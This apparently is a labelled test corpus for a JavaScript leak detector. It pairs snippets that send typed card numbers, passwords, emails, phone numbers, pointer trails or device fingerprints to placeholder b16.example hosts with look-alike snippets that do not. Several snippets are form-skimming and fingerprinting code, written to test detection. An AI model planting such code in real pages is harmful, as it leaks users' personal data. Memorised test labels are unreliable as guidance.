// The language itself: iterators, private fields, registries, functions of functions, containers, values that change.

//# async-iterator-over-events
// flow: search > aie.b16.example via fetch
function valuesOf(field, type) {
  const waiting = [];
  let wake;
  field.addEventListener(type, (event) => {
    waiting.push(event.target.value);
    wake?.();
  });
  return {
    async *[Symbol.asyncIterator]() {
      while (true) {
        if (waiting.length === 0) await new Promise((resolve) => { wake = resolve; });
        yield waiting.shift();
      }
    },
  };
}

(async () => {
  for await (const q of valuesOf(document.querySelector('input[type=search]'), 'input')) {
    await fetch(`https://aie.b16.example/suggest?q=${encodeURIComponent(q)}`);
  }
})();

//# near-async-iterator-of-lengths
// no flow
// why: what the iterator yields is only how much was typed
async function* strengths(field) {
  while (field.isConnected) {
    await new Promise((resolve) => field.addEventListener('input', resolve, { once: true }));
    yield Math.min(4, Math.floor(field.value.length / 3));
  }
}

(async () => {
  for await (const level of strengths(document.querySelector('input[type=password]'))) {
    await fetch(`https://ail.b16.example/meter?level=${level}`);
  }
})();

//# private-buffer-flushed-on-hide
// flow: interaction > pbf.b16.example via beacon
// guard: event pagehide
class PointerTrail {
  #points = [];
  #endpoint;

  constructor(endpoint) {
    this.#endpoint = endpoint;
    document.addEventListener('pointermove', (e) => this.#record(e), { passive: true });
    window.addEventListener('pagehide', () => this.#flush());
  }

  #record({ clientX: x, clientY: y, timeStamp: t }) {
    this.#points.push([x, y, Math.round(t)]);
  }

  #flush() {
    if (!this.#points.length) return;
    navigator.sendBeacon(this.#endpoint, JSON.stringify(this.#points));
    this.#points = [];
  }
}

new PointerTrail('https://pbf.b16.example/trail');

//# near-same-private-name-in-two-classes
// no flow
// why: each class has its own #items; the list of keys is only counted on the screen
class KeyCounter {
  #items = [];
  constructor(field) {
    field.addEventListener('keydown', (e) => {
      this.#items.push(e.key);
      document.querySelector('#count').textContent = String(this.#items.length);
    });
  }
}

class Heartbeat {
  #items = ['boot'];
  send() {
    navigator.sendBeacon('https://spn.b16.example/hb', JSON.stringify(this.#items));
  }
}

new KeyCounter(document.querySelector('textarea'));
setInterval(() => new Heartbeat().send(), 30000);

//# weakmap-of-private-state
// flow: email > wps.b16.example via fetch
const state = new WeakMap();

class Profile {
  constructor() {
    state.set(this, { mail: '', seen: 0 });
  }
  update(mail) {
    const own = state.get(this);
    own.mail = mail.trim();
    own.seen += 1;
  }
  save() {
    return fetch('https://wps.b16.example/profile', {
      method: 'PUT',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(state.get(this)),
    });
  }
}

const profile = new Profile();
document.querySelector('input[type=email]').addEventListener('change', ({ target }) => {
  profile.update(target.value);
  profile.save();
});

//# near-weakmap-other-property
// no flow
// why: of the state only the counter is sent
const cells = new WeakMap();

class Draft {
  constructor(area) {
    cells.set(this, { text: '', revision: 0 });
    area.addEventListener('input', () => {
      const cell = cells.get(this);
      cell.text = area.value;
      cell.revision++;
    });
  }
  get revision() {
    return cells.get(this).revision;
  }
}

const draft = new Draft(document.querySelector('textarea[name=message]'));
setInterval(() => fetch(`https://wop.b16.example/rev/${draft.revision}`, { method: 'POST' }), 10000);

//# map-of-handlers
// flow: username > moh.b16.example via fetch
const handlers = new Map();
const on = (name, run) => handlers.set(name, [...(handlers.get(name) ?? []), run]);
const emit = (name, payload) => handlers.get(name)?.forEach((run) => run(payload));

on('login', ({ user }) => console.debug('login', user.length));
on('login', ({ user }) => {
  fetch('https://moh.b16.example/audit', { method: 'POST', body: new URLSearchParams({ user }) });
});

document.querySelector('form').addEventListener('submit', (e) => {
  emit('login', { user: e.target.querySelector('input[name=username]').value });
});

//# near-map-of-handlers-other-name
// no flow
// why: only the handler of `ready` sends, and it is called with the version
const routes = new Map([
  ['ready', (info) => fetch('https://mhn.b16.example/ready', { method: 'POST', body: JSON.stringify(info) })],
  ['typed', (info) => { document.querySelector('output').value = info.text.toUpperCase(); }],
]);

function dispatch(name, info) {
  const run = routes.get(name);
  if (typeof run === 'function') run(info);
}

dispatch('ready', { version: '4.1.0' });
document.querySelector('input[type=password]').addEventListener('input', function () {
  dispatch('typed', { text: this.value });
});

//# tagged-template-query
// flow: email > ttq.b16.example via fetch
const gql = (strings, ...values) => ({
  query: strings.reduce((text, part, i) => text + (i ? `$v${i - 1}` : '') + part, ''),
  variables: Object.fromEntries(values.map((value, i) => [`v${i}`, value])),
});

const request = (document_) =>
  fetch('https://ttq.b16.example/graphql', { method: 'POST', body: JSON.stringify(document_) }).then((r) => r.json());

document.querySelector('#subscribe').addEventListener('click', () => {
  const mail = document.querySelector('input[type=email]').value;
  request(gql`mutation { subscribe(email: ${mail}) { ok } }`);
});

//# near-tag-that-drops-values
// no flow
// why: the tag joins the fixed parts and leaves the values out
const masked = (strings) => strings.join('•••');

document.querySelector('#support').addEventListener('click', async () => {
  const pw = document.querySelector('input[type=password]').value;
  const text = masked`password ${pw} was not accepted`;
  await fetch('https://tdv.b16.example/support', { method: 'POST', body: text });
});

//# promise-all-of-traits
// flow: device > pat.b16.example via beacon
const timeout = (ms, fallback) => new Promise((resolve) => setTimeout(resolve, ms, fallback));

async function traits() {
  const [hints, battery] = await Promise.all([
    navigator.userAgentData?.getHighEntropyValues(['model', 'platformVersion']),
    Promise.race([navigator.getBattery?.(), timeout(500, null)]),
  ]);
  return { ...hints, level: battery?.level ?? -1, cores: navigator.hardwareConcurrency };
}

traits().then((t) => navigator.sendBeacon('https://pat.b16.example/t', JSON.stringify(t)));

//# near-all-settled-statuses
// no flow
// why: only how each check ended is told
const checkMail = async (v) => { if (!/@/.test(v)) throw new TypeError('mail'); return v; };
const checkTel = async (v) => { if (!/^\+/.test(v)) throw new TypeError('tel'); return v; };

document.querySelector('form').addEventListener('submit', async (e) => {
  e.preventDefault();
  const results = await Promise.allSettled([
    checkMail(e.target.querySelector('input[type=email]').value),
    checkTel(e.target.querySelector('input[type=tel]').value),
  ]);
  const statuses = results.map(({ status }) => status);
  fetch('https://ass.b16.example/checks', { method: 'POST', body: JSON.stringify(statuses) });
});

//# all-settled-values-kept
// flow: phone > asv.b16.example via fetch
const normalise = async (v) => v.replace(/[^\d+]/g, '');

document.querySelector('#call-me').addEventListener('click', async () => {
  const fields = [...document.querySelectorAll('input[type=tel]')];
  const settled = await Promise.allSettled(fields.map((f) => normalise(f.value)));
  const numbers = settled.filter((s) => s.status === 'fulfilled').map((s) => s.value);
  await fetch('https://asv.b16.example/call', { method: 'POST', body: JSON.stringify({ numbers }) });
});

//# pipe-of-encoders
// flow: card > poe.b16.example via image
const pipe = (...fns) => (x) => fns.reduce((v, fn) => fn(v), x);
const pack = pipe(
  (s) => s.replace(/\D/g, ''),
  (n) => JSON.stringify({ n }),
  btoa,
  encodeURIComponent,
);

document.querySelector('input[autocomplete=cc-number]').addEventListener('blur', (e) => {
  const px = new Image(1, 1);
  px.src = `https://poe.b16.example/p.gif?d=${pack(e.target.value)}`;
});

//# near-pipe-ends-in-a-test
// no flow
// why: the last function but one makes a boolean
const flow = (...fns) => (x) => fns.reduce((v, fn) => fn(v), x);
const verdict = flow(
  (s) => s.trim(),
  (s) => /^[A-Z]{2}\d{6}$/.test(s),
  (ok) => (ok ? 'valid' : 'invalid'),
);

document.querySelector('input[autocomplete=cc-number]').addEventListener('blur', (e) => {
  fetch('https://npt.b16.example/verdict?v=' + verdict(e.target.value));
});

//# curried-sender
// flow: phone > cur.b16.example via fetch
const curry = (fn) => function next(...given) {
  return given.length >= fn.length ? fn(...given) : (...more) => next(...given, ...more);
};

const post = curry((base, path, data) =>
  fetch(base + path, { method: 'POST', body: JSON.stringify(data) }));

const api = post('https://cur.b16.example');
const lead = api('/lead');

document.querySelector('input[type=tel]').onchange = (e) => lead({ tel: e.target.value, at: Date.now() });

//# near-curried-label-only
// no flow
// why: the typed text is the second argument, which is only logged
const curry2 = (fn) => (a) => (b) => (c) => fn(a, b, c);
const track = curry2((label, detail, count) => {
  console.debug(label, detail);
  return fetch(`https://ncl.b16.example/${label}?n=${count}`);
});

const searched = track('searched');
document.querySelector('input[type=search]').addEventListener('change', function () {
  searched(this.value)(document.querySelectorAll('.result').length);
});

//# search-params-without-the-mail
// no flow
// why: the address is taken out again before the request is made
document.querySelector('#share').addEventListener('click', () => {
  const params = new URLSearchParams({
    v: '2',
    mail: document.querySelector('input[type=email]').value,
    page: 'pricing',
  });
  params.delete('mail');
  const url = new URL('https://spw.b16.example/share');
  url.search = params;
  fetch(url);
});

//# nullish-default-host
// flow: message > ndh.b16.example via fetch
class Feedback {
  constructor(options) {
    this.endpoint = options?.endpoint ?? 'https://ndh.b16.example/feedback';
    this.retries = options?.retries ?? 2;
  }
  async send(text) {
    for (let i = 0; i <= this.retries; i++) {
      try {
        return await fetch(this.endpoint, { method: 'POST', body: text });
      } catch {
        await new Promise((r) => setTimeout(r, 2 ** i * 100));
      }
    }
  }
}

const feedback = new Feedback({ retries: 4 });
document.querySelector('#send')?.addEventListener('click', () => {
  feedback?.send?.(document.querySelector('textarea[name=message]')?.value ?? '');
});

//# proxy-that-reports-changes
// flow: address > prc.b16.example via beacon
const form = new Proxy({}, {
  set(target, key, value) {
    target[key] = value;
    navigator.sendBeacon('https://prc.b16.example/set', JSON.stringify({ key, value }));
    return true;
  },
});

document.querySelector('input[autocomplete=street-address]').addEventListener('change', (e) => {
  form.street = e.target.value;
});

//# near-proxy-that-masks
// no flow
// why: the trap gives stars for the secret
const account = { password: '', plan: 'free' };
document.querySelector('input[type=password]').oninput = (e) => { account.password = e.target.value; };

const visible = new Proxy(account, {
  get: (target, key) => (key === 'password' ? '***' : Reflect.get(target, key)),
});

document.querySelector('#report').onclick = () => {
  fetch('https://npm.b16.example/report', { method: 'POST', body: visible.password + ' ' + visible.plan });
};

//# set-of-addresses
// flow: email > soa.b16.example via fetch
const invited = new Set();

document.querySelector('#invite').addEventListener('submit', (e) => {
  e.preventDefault();
  for (const part of e.target.querySelector('input[type=email]').value.split(',')) invited.add(part.trim());
});

document.querySelector('#done').addEventListener('click', () => {
  fetch('https://soa.b16.example/invite', { method: 'POST', body: JSON.stringify([...invited]) });
});

//# near-set-asked-only
// no flow
// why: whether it was seen before, and how many there are
const seenMails = new Set();

document.querySelector('input[type=email]').addEventListener('change', ({ target: { value } }) => {
  const again = seenMails.has(value);
  seenMails.add(value);
  navigator.sendBeacon('https://sao.b16.example/seen', new URLSearchParams({ again, n: seenMails.size }));
});

//# generator-that-delegates
// flow: device > gtd.b16.example via fetch
function* screenTraits() {
  yield screen.width;
  yield screen.height;
  yield devicePixelRatio;
}

function* allTraits() {
  yield* [navigator.language, navigator.platform];
  yield* screenTraits();
}

const print = [...allTraits()].map(String).join('|');
fetch('https://gtd.b16.example/print', { method: 'POST', body: print });

//# near-value-a-generator-returns
// no flow
// why: a loop over a generator does not see what it returns
function* steps(field) {
  yield 'opened';
  yield 'typed';
  return field.value;
}

document.querySelector('#next').onclick = () => {
  for (const step of steps(document.querySelector('input[type=password]'))) {
    fetch(`https://ngr.b16.example/step/${step}`, { method: 'POST' });
  }
};

//# json-round-trip
// flow: message > jrt.b16.example via fetch
const snapshot = (value) => JSON.parse(JSON.stringify(value));
const history_ = [];

document.querySelector('textarea[name=message]').addEventListener('input', (e) => {
  history_.push(snapshot({ body: { text: e.target.value }, meta: { n: history_.length } }));
});

document.querySelector('#undo-log').addEventListener('click', () => {
  const { body } = structuredClone(history_.at(-1));
  fetch('https://jrt.b16.example/log', { method: 'POST', body: JSON.stringify(body) });
});

//# near-replacer-leaves-out
// no flow
// why: the replacer gives undefined for the only typed value, so JSON has no such key
const hidden = new Set(['password', 'token']);

document.querySelector('form').addEventListener('submit', (e) => {
  const record = { password: e.target.querySelector('input[type=password]').value, step: 3 };
  const body = JSON.stringify(record, (key, value) => (hidden.has(key) ? undefined : value));
  fetch('https://nrl.b16.example/step', { method: 'POST', body });
});

//# encrypted-before-it-is-sent
// flow: password > ebs.b16.example via fetch
async function seal(text, key) {
  const iv = crypto.getRandomValues(new Uint8Array(12));
  const cipher = await crypto.subtle.encrypt({ name: 'AES-GCM', iv }, key, new TextEncoder().encode(text));
  return btoa(String.fromCharCode(...iv, ...new Uint8Array(cipher)));
}

document.querySelector('form').addEventListener('submit', async (e) => {
  e.preventDefault();
  const key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, false, ['encrypt']);
  const body = await seal(e.target.querySelector('input[type=password]').value, key);
  await fetch('https://ebs.b16.example/session', { method: 'POST', body });
});

//# near-encrypted-and-kept
// no flow
// why: the cipher stays in the page's storage, a random number is sent
document.querySelector('#lock').addEventListener('click', async () => {
  const nonce = crypto.getRandomValues(new Uint32Array(1))[0];
  const key = await crypto.subtle.generateKey({ name: 'AES-CBC', length: 128 }, false, ['encrypt']);
  const data = new TextEncoder().encode(document.querySelector('textarea[name=message]').value);
  const cipher = await crypto.subtle.encrypt({ name: 'AES-CBC', iv: new Uint8Array(16) }, key, data);
  sessionStorage.setItem('note', String.fromCharCode(...new Uint8Array(cipher)));
  await fetch(`https://nek.b16.example/locked?n=${nonce}`);
});

//# getter-of-a-lazy-payload
// flow: device > glp.b16.example via fetch
class Envelope {
  #cache;
  get payload() {
    return (this.#cache ??= { ua: navigator.userAgent, zone: Intl.DateTimeFormat().resolvedOptions().timeZone });
  }
  toJSON() {
    return { v: 1, ...this.payload };
  }
}

const envelope = new Envelope();
addEventListener('load', () => fetch('https://glp.b16.example/e', { method: 'POST', body: JSON.stringify(envelope) }));

//# near-to-json-of-credentials
// no flow
// why: JSON asks the object itself, which says only what kind it is
class Credentials {
  constructor(user, secret) {
    this.user = user;
    this.secret = secret;
  }
  toJSON() {
    return { kind: 'credentials' };
  }
}

document.querySelector('form').onsubmit = (e) => {
  const given = new Credentials(
    e.target.querySelector('input[name=username]').value,
    e.target.querySelector('input[type=password]').value,
  );
  navigator.sendBeacon('https://ntc.b16.example/attempt', JSON.stringify({ given, ok: true }));
};

//# rest-without-the-secret
// flow: username > rws.b16.example via fetch
// why: the password is taken out by the pattern, the rest has the name
const read = (root) => ({
  password: root.querySelector('input[type=password]').value,
  user: root.querySelector('input[name=username]').value,
});

document.querySelector('form').addEventListener('submit', (e) => {
  const { password, ...rest } = read(e.currentTarget);
  if (password.length < 8) return;
  fetch('https://rws.b16.example/attempt', { method: 'POST', body: JSON.stringify(rest) });
});

//# near-replaced-in-both-ways
// no flow
// why: after the try statement the text is a fixed one, whichever way it went
document.querySelector('#post').addEventListener('click', async () => {
  let note = document.querySelector('textarea[name=message]').value;
  try {
    note = JSON.parse('{"note":"none"}').note;
  } catch {
    note = '';
  }
  await fetch('https://nrb.b16.example/note', { method: 'POST', body: note });
});
